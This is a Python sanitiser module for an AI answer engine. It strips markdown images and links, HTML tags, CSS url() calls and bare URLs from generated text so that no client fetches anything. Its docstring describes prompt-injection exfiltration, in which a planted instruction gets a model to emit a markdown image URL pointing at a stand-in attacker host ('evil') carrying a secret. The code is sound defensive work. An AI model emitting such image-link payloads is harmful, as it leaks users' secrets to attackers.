"""Answer text that no client will fetch anything for.

A client that renders an answer as Markdown or HTML fetches every image,
frame, poster and stylesheet URL in it, and a link invites a click: the
classic exfiltration channel for an instruction planted in a post
(``![x](https://evil/leak?q=SECRET)``). Answer text therefore carries no URL
in any form; sources travel in the structured ``citations`` field.

:func:`clean_text` is applied to every sentence the verification gate emits
(generated, composed, degraded), so whatever a post author or a compromised
model writes, what leaves the engine is plain text:

- markdown images and links, inline (``![a](u)``, ``[t](u)``) and
  reference-style (``![a][r]`` / ``[t][r]`` plus ``[r]: http://...``): images
  go, links keep their text;
- HTML and XML tags of any kind (``<iframe>``, ``<svg>``, ``<video poster>``,
  ``<img>``, ``<a>``, ``<style>``...) and their dangerous bodies;
- CSS ``url(...)`` and ``<http://...>`` autolinks;
- bare URLs (``http://``, ``https://``, ``www.``, ``data:``, ``javascript:``).
"""

from __future__ import annotations

import html
import re

_I = re.IGNORECASE | re.DOTALL

#: ``[r]: http://...`` definitions (a whole line).
_REF_DEF = re.compile(
    r"^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*\S+.*$"
    r"|\[[^\]\n]{1,200}\]:[ \t]*<?(?:[a-z][\w+.-]{1,20}:|www\.|/)\S*",
    re.IGNORECASE | re.MULTILINE,
)
_MD_IMAGE = re.compile(r"!\[[^\]]{0,500}\](?:\([^)]{0,2000}\)|\[[^\]]{0,200}\])?")
_MD_LINK = re.compile(r"\[([^\]]{0,500})\]\([^)]{0,2000}\)")
#: ``[text][ref]`` reference links: keep the text (``[3][5]`` markers are not links).
_MD_REF_LINK = re.compile(r"\[([^\]\d][^\]]{0,500})\]\[[^\]]{0,200}\]")
#: Elements whose content is itself dangerous or meaningless as text.
_BLOCK = re.compile(
    r"<(script|style|svg|iframe|object|embed|video|audio|template|math)\b.*?(?:</\1\s*>|$)", _I
)
_AUTOLINK = re.compile(r"<(?:https?|ftp|mailto|data|javascript):[^>]*>", re.IGNORECASE)
_TAG = re.compile(r"</?[A-Za-z][\w:-]*(?:\s[^<>]*)?/?>|<!--.*?-->|<![^>]*>", re.DOTALL)
#: An unfinished tag at the end of a text (``<iframe src=...`` cut off).
_OPEN_TAG = re.compile(r"<[A-Za-z/!][^<>]*$")
_ENCODED_TAG = re.compile(
    r"(?:&lt;|&#0*60;|&#x0*3c;)/?[A-Za-z!].*?(?:&gt;|&#0*62;|&#x0*3e;|$)", re.IGNORECASE
)
_CSS_URL = re.compile(r"\burl\s*\([^)]*\)?", re.IGNORECASE)
#: A scheme glued to a word ("clickjavascript:...") is still one to a lax renderer.
_URL = re.compile(
    r"(?:(?:https?|ftp|file|data|javascript|vbscript|blob):(?=\S)|\bwww\.)[^\s<>\"'«»“”]*",
    re.IGNORECASE,
)
#: Bare domains with a path (``evil.example/leak?q=``): still a URL to a renderer.
_DOMAIN_PATH = re.compile(r"\b[\w-]+(?:\.[\w-]+)*\.[a-z]{2,12}/[^\s<>\"'«»“”]*", re.IGNORECASE)


def clean_text(text: str) -> str:
    """``text`` without URLs, images, links, HTML or CSS that a client would fetch.

    Repeated until nothing changes: removing one piece must not assemble another
    (``[1]<a href=…>(x)`` would otherwise leave a markdown link ``[1](x)``).
    """
    return _until_stable(text, urls=True)


def _until_stable(text: str, urls: bool) -> str:
    out = text
    for _ in range(8):
        cleaner = _clean_once(out, urls)
        if cleaner == out:
            break
        out = cleaner
    return out


def _clean_once(text: str, urls: bool = True) -> str:
    out = _REF_DEF.sub("", text)
    out = _MD_IMAGE.sub("", out)
    out = _MD_LINK.sub(lambda m: m.group(1), out)
    out = _MD_REF_LINK.sub(lambda m: m.group(1), out)
    out = _BLOCK.sub("", out)
    out = _AUTOLINK.sub("", out)
    out = _TAG.sub("", out)
    out = _OPEN_TAG.sub("", out)
    # Entities could spell a tag or a link again once a client decodes them: such
    # encoded markup goes; other entities (a tweet's "&amp;") stay, verbatim.
    if "&" in out:
        out = _ENCODED_TAG.sub("", out)
        decoded = html.unescape(out)
        if _TAG.search(decoded) or _URL.search(decoded) or _OPEN_TAG.search(decoded):
            out = _TAG.sub("", _BLOCK.sub("", decoded)).replace("<", "‹").replace(">", "›")
    out = _CSS_URL.sub("", out)
    if urls:
        out = _URL.sub("", out)
        out = _DOMAIN_PATH.sub("", out)
    out = re.sub(r"[ \t]{2,}", " ", out)
    out = re.sub(r" +([.,])(?=\s|$)", r"\1", out)
    return out.strip(" \t")


_FETCHABLE_SPLIT = re.compile(f"{_URL.pattern}|{_DOMAIN_PATH.pattern}", re.IGNORECASE)


def runs_between_urls(text: str) -> list[str]:
    """``text`` without markup, cut where a bare URL or domain path stands.

    A verbatim quote must stay inside one run: :func:`clean_text` drops the URL,
    and a quote across it would join words the author did not write together
    ("by end of year http://t.co/x via" is not "by end of year via"). Markup
    (images, tags, links: a URL inside them is part of them) goes first.
    """
    markup_free = _until_stable(text, urls=False)
    return [run for run in _FETCHABLE_SPLIT.split(markup_free) if run.strip()]


def has_fetchable(text: str) -> bool:
    """Whether ``text`` still holds anything :func:`clean_text` would remove."""
    return clean_text(text) != text.strip(" \t")
